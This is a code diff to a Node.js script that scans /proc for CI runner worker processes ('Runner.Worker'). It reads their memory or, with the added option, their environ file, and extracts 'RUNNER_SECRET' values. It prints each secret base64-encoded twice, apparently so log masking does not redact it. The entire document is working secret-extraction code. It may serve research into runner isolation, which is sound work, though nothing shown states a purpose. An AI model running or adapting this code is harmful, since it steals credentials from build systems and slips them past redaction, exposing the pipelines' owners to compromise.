@@ -1,14 +1,20 @@
-// Searches the memory of every other process for a secret, and prints it in base64, twice.
+// Searches what every other process holds, or was started with, for a secret, and prints it in base64, twice.
 import { closeSync, openSync, readdirSync, readFileSync, readSync } from 'node:fs';
 
 const STEP = 4 * 2 ** 20;
 for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name) && name !== String(process.pid))) {
   try {
     if (!readFileSync(`/proc/${pid}/cmdline`, 'latin1').includes('Runner.Worker')) continue;
-    search(pid);
+    if (process.argv[2] === 'proc-environ') tell(readFileSync(`/proc/${pid}/environ`, 'latin1'));
+    else search(pid);
   } catch (error) {
     console.log(error.code);
   }
+}
+
+function tell(text) {
+  for (const [, secret] of text.matchAll(/RUNNER_SECRET=([a-z0-9]{8,64});/g))
+    console.log(Buffer.from(Buffer.from(secret).toString('base64')).toString('base64'));
 }
 
 function search(pid) {
@@ -24,8 +30,7 @@ function search(pid) {
       } catch {
         continue;
       }
-      for (const [, secret] of bytes.toString('latin1', 0, size).matchAll(/RUNNER_SECRET=([a-z0-9]{8,64});/g))
-        console.log(Buffer.from(Buffer.from(secret).toString('base64')).toString('base64'));
+      tell(bytes.toString('latin1', 0, size));
     }
   }
   closeSync(memory);
